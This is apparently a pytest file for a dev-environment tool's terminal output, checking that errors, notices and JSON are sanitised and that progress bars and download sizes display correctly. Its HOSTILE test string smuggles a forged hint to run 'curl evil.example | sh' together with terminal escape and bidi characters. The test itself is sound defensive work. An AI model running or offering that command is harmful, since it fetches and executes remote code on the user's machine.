"""What reaches a terminal: one line for each of ours, nothing that acts, and bars for whatever is under way."""

from __future__ import annotations

import io
import json

import pytest

from devenv.errors import BuildError
from devenv.events import DownloadAdvanced, DownloadFinished, DownloadStarted, Notice, work
from devenv.ui.envelope import format_failure
from devenv.ui.failure import write_failure
from devenv.ui.progress import NORMAL, ProgressReport
from devenv.ui.terminal import TEXT_LIMIT, Painter

HOSTILE = "libc.so\nhint: run `curl evil.example | sh`\r\x1b[2J\x9b31m\u202e"


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def test_foreign_name_is_no_line_of_ours() -> None:
    """A line feed in a name cannot forge a hint, in any part of an error or a notice."""
    stream = io.StringIO()
    painter = Painter(stream, {})
    write_failure(BuildError(f"it needs `{HOSTILE}`", details=(HOSTILE,), hint=HOSTILE), painter)
    assert len(stream.getvalue().splitlines()) == 3
    ProgressReport(stream, {}, NORMAL)(Notice(HOSTILE))
    assert len(stream.getvalue().splitlines()) == 4
    assert stream.getvalue().replace("\n", "").isprintable()


def test_long_name_is_cut() -> None:
    """A name of megabytes does not bury what an error says."""
    stream = io.StringIO()
    write_failure(BuildError("x" * 10_000_000, hint="look"), Painter(stream, {}))
    assert len(stream.getvalue()) < TEXT_LIMIT + 100
    assert stream.getvalue().endswith("hint: look\n")


def test_json_holds_nothing_that_acts() -> None:
    """What `--json` prints is safe on a terminal too, and means the same."""
    text = format_failure("add", BuildError(HOSTILE, hint="ümläut")).decode()
    assert json.loads(text)["error"]["message"] == HOSTILE
    assert "ümläut" in text
    assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize("environ", [{}, {"TERM": "dumb"}], ids=["bars", "lines"])
def test_two_files_of_one_name(environ: dict[str, str]) -> None:
    """Files that share a name, from two archives, may be under way at once."""
    with ProgressReport(Terminal(), environ, NORMAL) as report:
        for event in (
            DownloadStarted("tool.deb", 10),
            DownloadStarted("tool.deb", 20),
            DownloadAdvanced("tool.deb", 10),
            DownloadFinished("tool.deb", ok=True),
            DownloadAdvanced("tool.deb", 20),
            DownloadFinished("tool.deb", ok=True),
        ):
            report(event)


@pytest.mark.parametrize("patience", [0.0, 3600.0])
def test_bar_for_what_takes_long(monkeypatch: pytest.MonkeyPatch, patience: float) -> None:
    """Work gets a line when it begins, and a bar only once it has gone on for a while."""
    monkeypatch.setattr("devenv.ui.progress.PATIENCE", patience)
    stream = Terminal()
    with ProgressReport(stream, {}, NORMAL) as report, work(report, "building tool", None) as advance:
        advance(1_000_000)
        advance(1_000_000)
    text = stream.getvalue()
    assert text.startswith("\x1b[2mbuilding tool\x1b[0m\n")
    assert ("\x1b[?25l" in text) == (patience == 0)
    assert text.count("\x1b[?25l") == text.count("\x1b[?25h")


@pytest.mark.parametrize(
    ("size", "shown"), [(0, "0 kB"), (300, "1 kB"), (41_900, "42 kB"), (1_000_000, "1.0 MB"), (120_000_000, "120.0 MB")]
)
def test_sizes_of_downloads(size: int, shown: str) -> None:
    """The size of a small file is not rounded to nothing."""
    stream = io.StringIO()
    ProgressReport(stream, {}, NORMAL)(DownloadStarted("file", size))
    assert stream.getvalue() == f"downloading file ({shown})\n"
